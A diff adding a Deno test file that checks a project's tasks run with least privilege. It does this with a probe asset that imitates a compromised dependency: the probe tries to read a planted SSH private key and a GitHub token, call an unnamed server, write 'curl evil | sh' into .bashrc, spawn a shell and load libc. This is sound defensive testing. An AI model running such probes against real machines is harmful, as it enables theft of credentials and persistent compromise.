@@ -1,0 +1,244 @@
+/**
+ * The tasks run with least privilege (issue 15 item 13): each `deno task`
+ * of deno.json is started exactly as written (through launch.ts), in an
+ * environment whose HOME holds an `~/.ssh/id_rsa` and whose shell has a
+ * token, beside a loopback server the configuration does not name. A probe
+ * asset tries to take each of them and must be refused, while the quick
+ * start (every asset on the embedded defaults) still exits 0 under the same
+ * task, and `doctor` and `ui` work.
+ */
+
+import assert from "node:assert/strict";
+import { dirname } from "node:path";
+import { fileURLToPath } from "node:url";
+import { npmCacheDir } from "../resources/permissions.ts";
+import { sandbox, spawnMain } from "./_helpers/main_process.ts";
+
+const ROOT = fileURLToPath(new URL("..", import.meta.url));
+const TASKS: Record<string, string> = JSON.parse(
+  Deno.readTextFileSync(new URL("../deno.json", import.meta.url)),
+).tasks;
+const SECRET_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- not-for-dependencies";
+const TOKEN = "ghp_launch_test_token";
+
+/** The `deno` arguments of `deno task NAME` (without the task's extra arguments). */
+function taskArgs(name: string): string[] {
+  const words = TASKS[name]!.split(/\s+/);
+  assert.equal(words[0], "deno", `task ${name} runs deno`);
+  return words.slice(1);
+}
+
+/** A sandbox plus a HOME with a private key, a private TMPDIR and a loopback server nobody names. */
+async function world() {
+  const box = await sandbox();
+  const home = await Deno.makeTempDir({ prefix: "launch_home_" });
+  await Deno.mkdir(`${home}/.ssh`);
+  await Deno.writeTextFile(`${home}/.ssh/id_rsa`, SECRET_KEY);
+  await Deno.mkdir(`${box.dir}/tmp`);
+  let hits = 0;
+  const server = Deno.serve({ hostname: "127.0.0.1", port: 0, onListen: () => {} }, () => {
+    hits++;
+    return new Response("exfiltrated");
+  });
+  const env: Record<string, string> = {
+    ...box.env,
+    PATH: Deno.env.get("PATH") ?? "/usr/bin:/bin",
+    HOME: home,
+    TMPDIR: `${box.dir}/tmp`,
+    // The real npm cache (HOME moved, so its default would move too).
+    DENO_DIR: dirname(npmCacheDir(Deno.env)),
+    GITHUB_TOKEN: TOKEN,
+    NO_COLOR: "1",
+  };
+  return {
+    box,
+    home,
+    env,
+    port: server.addr.port,
+    hits: () => hits,
+    async [Symbol.asyncDispose]() {
+      await server.shutdown();
+      await Deno.remove(home, { recursive: true });
+      await box[Symbol.asyncDispose]();
+    },
+  };
+}
+
+/** An asset that tries what a compromised dependency would, and reports what it got. */
+function probeGraph(home: string, port: number, allowedFile: string): string {
+  return `
+const attempt = async (what) => {
+  try {
+    const value = await what();
+    return "allowed: " + String(value).slice(0, 60);
+  } catch (error) {
+    return "refused: " + (error?.code ?? error?.name ?? String(error));
+  }
+};
+export const graph = defineGraph({ assets: [
+  defineAsset({ key: "probe", materialize: async () => ({
+    ssh: await attempt(() => Deno.readTextFile(${JSON.stringify(`${home}/.ssh/id_rsa`)})),
+    ssh_node: await attempt(async () =>
+      (await import("node:fs/promises")).readFile(${
+    JSON.stringify(`${home}/.ssh/id_rsa`)
+  }, "utf8")),
+    ssh_dir: await attempt(async () => [...Deno.readDirSync(${JSON.stringify(home)})].length),
+    net: await attempt(async () => (await fetch("http://127.0.0.1:${port}/")).text()),
+    net_public: await attempt(async () => (await fetch("http://example.com:8080/")).text()),
+    token: await attempt(() => Deno.env.get("GITHUB_TOKEN") ?? Promise.reject(new Error("unset"))),
+    write: await attempt(() => Deno.writeTextFile(${
+    JSON.stringify(`${home}/.bashrc`)
+  }, "curl evil | sh")),
+    run: await attempt(async () => (await new Deno.Command("sh", { args: ["-c", "true"] }).output()).code),
+    ffi: await attempt(() => Deno.dlopen("libc.so.6", {}).close()),
+    allowed_read: await attempt(() => Deno.readTextFile(${JSON.stringify(allowedFile)})),
+  }) }),
+] });`;
+}
+
+/** The metadata of the probe's materialization in `--json` output. */
+function probeMetadata(stdout: string): Record<string, string> {
+  for (const line of stdout.split("\n")) {
+    if (!line.startsWith("{")) continue;
+    const event = JSON.parse(line);
+    if (event.asset === "probe" && event.step === "asset" && event.status === "success") {
+      return event.metadata;
+    }
+  }
+  throw new Error(`no successful probe step in:\n${stdout}`);
+}
+
+Deno.test("tasks: no task runs with -A; each grants only its own paths, hosts and programs", async () => {
+  await using w = await world();
+  for (const name of ["materialize", "sensor", "worker", "doctor", "ui", "dev", "dbt", "cli"]) {
+    assert.ok(TASKS[name]!.includes("launch.ts"), `task ${name} goes through launch.ts`);
+    const command = name === "cli" ? ["list"] : [];
+    const args = taskArgs(name);
+    args.splice(args.indexOf("launch.ts") + 1, 0, "--print");
+    const printed = await new Deno.Command(Deno.execPath(), {
+      args: [...args, ...command],
+      cwd: ROOT,
+      env: w.env,
+      clearEnv: true,
+    }).output();
+    const text = new TextDecoder().decode(printed.stdout);
+    assert.equal(printed.code, 0, new TextDecoder().decode(printed.stderr));
+    const flags = text.split(/\s+/).filter((word) => word.startsWith("-"));
+    assert.ok(!flags.includes("-A") && !flags.includes("--allow-all"), `${name}: ${text}`);
+    for (const kind of ["read", "write", "net", "env", "run", "ffi", "sys"]) {
+      assert.ok(!flags.includes(`--allow-${kind}`), `${name} has a bare --allow-${kind}: ${text}`);
+    }
+    const read = flags.find((f) => f.startsWith("--allow-read="))?.slice(13).split(",") ?? [];
+    assert.ok(!read.some((path) => w.home.startsWith(path)), `${name} reads HOME: ${text}`);
+    assert.ok(!text.includes(String(w.port)), `${name}: ${text}`);
+    assert.equal(
+      flags.some((f) => f.startsWith("--allow-ffi")),
+      name === "dbt",
+      `${name}: ${text}`,
+    );
+  }
+  assert.ok(!TASKS.compile!.includes(" -A") && TASKS.compile!.includes("launch.ts compile"));
+});
+
+Deno.test("tasks: a dependency cannot read ~/.ssh, call an unnamed host, see the shell's token, write HOME or start programs", async () => {
+  await using w = await world();
+  const allowed = `${w.box.dir}/allowed.txt`;
+  await Deno.writeTextFile(allowed, "inside the grants");
+  const graph = await w.box.graph("probe", probeGraph(w.home, w.port, allowed));
+  const env = { ...w.env, PLATFORM_GRAPH: graph, GDAL_ENGINE: "wasm" };
+
+  await using run = spawnMain(["--json"], {
+    cwd: ROOT,
+    env,
+    clearEnv: true,
+    denoArgs: taskArgs("materialize"),
+    killAfterMs: 300_000,
+  });
+  const outcome = await run.finish();
+  assert.equal(outcome.code, 0, outcome.stderr);
+  const got = probeMetadata(outcome.stdout);
+  assert.equal(got.allowed_read, "allowed: inside the grants"); // the probe itself works
+  // Outside the grants a file reads as missing; nothing of it comes back.
+  const missing = /^refused: (NotFound|ENOENT)$/;
+  const notCapable = /^refused: (NotCapable|ERR_ACCESS_DENIED)$/;
+  assert.match(got.ssh!, missing);
+  assert.match(got.ssh_node!, missing);
+  assert.match(got.ssh_dir!, missing);
+  assert.match(got.net!, notCapable);
+  assert.match(got.net_public!, notCapable);
+  assert.equal(got.token, "refused: Error"); // reads as unset
+  assert.match(got.write!, notCapable);
+  assert.match(got.run!, notCapable);
+  assert.match(got.ffi!, notCapable);
+  assert.ok(!outcome.stdout.includes(SECRET_KEY) && !outcome.stdout.includes(TOKEN));
+  assert.equal(w.hits(), 0);
+  assert.equal(await Deno.readTextFile(`${w.home}/.ssh/id_rsa`), SECRET_KEY);
+  await assert.rejects(Deno.stat(`${w.home}/.bashrc`), Deno.errors.NotFound);
+
+  // The same probe with PLATFORM_PERMISSIONS=all (plain -A) takes everything: the probe can tell.
+  await using open = spawnMain(["--json"], {
+    cwd: ROOT,
+    env: { ...env, PLATFORM_PERMISSIONS: "all" },
+    clearEnv: true,
+    denoArgs: taskArgs("materialize"),
+    killAfterMs: 300_000,
+  });
+  const opened = await open.finish();
+  assert.equal(opened.code, 0, opened.stderr);
+  const all = probeMetadata(opened.stdout);
+  assert.equal(all.ssh, `allowed: ${SECRET_KEY.slice(0, 60)}`);
+  assert.equal(all.net, "allowed: exfiltrated");
+  assert.match(all.token!, /^allowed: /); // (redacted in the output: a secret-named variable)
+  assert.equal(w.hits(), 1);
+});
+
+Deno.test("tasks: the quick start materializes everything under the narrowed task, then doctor and ui work", async () => {
+  await using w = await world();
+  await using quickStart = spawnMain([], {
+    cwd: ROOT,
+    env: w.env,
+    clearEnv: true,
+    denoArgs: taskArgs("materialize"),
+    killAfterMs: 600_000,
+  });
+  const outcome = await quickStart.finish();
+  assert.equal(outcome.code, 0, `${outcome.stderr}\n${outcome.stdout.slice(-4000)}`);
+  assert.doesNotMatch(outcome.stderr + outcome.stdout, /NotCapable|Requires \w+ access/);
+  assert.match(outcome.stderr, /Sample inputs/);
+  // Everything went under the sandbox's STATE_DIR / LAKE_URL; nothing was written to HOME.
+  await Deno.stat(`${w.box.dir}/state/warehouse/PG_VERSION`);
+  await Deno.stat(`${w.box.dir}/data_lake/data-lake`);
+  assert.deepEqual([...Deno.readDirSync(w.home)].map((e) => e.name), [".ssh"]);
+
+  // A generous probe timeout: opening PGlite takes over 10 s at the load of a shared CI machine.
+  await using doctor = spawnMain(["--timeout", "120000"], {
+    cwd: ROOT,
+    env: w.env,
+    clearEnv: true,
+    denoArgs: taskArgs("doctor"),
+    killAfterMs: 300_000,
+  });
+  const diagnosed = await doctor.finish();
+  assert.equal(diagnosed.code, 0, diagnosed.stderr + diagnosed.stdout);
+  assert.doesNotMatch(diagnosed.stdout, /DOWN/);
+
+  await using ui = spawnMain(["--port", "0"], {
+    cwd: ROOT,
+    env: w.env,
+    clearEnv: true,
+    denoArgs: taskArgs("ui"),
+    killAfterMs: 300_000,
+  });
+  const listening = await ui.waitFor(/UI_URL=(\S+)/, { timeoutMs: 240_000 });
+  const url = /UI_URL=(\S+)/.exec(listening)![1]!;
+  for (const page of ["/runs", "/assets", "/lake"]) {
+    const response = await fetch(`${url}${page}`);
+    const body = await response.text();
+    assert.equal(response.status, 200, `${page}: ${body.slice(0, 300)}`);
+    assert.doesNotMatch(body, /NotCapable|Requires \w+ access/);
+  }
+  // SIGTERM reaches the UI through the launcher, which exits with its code.
+  ui.kill("SIGTERM");
+  const stopped = await ui.finish();
+  assert.equal(stopped.signal, null, stopped.stderr);
+});
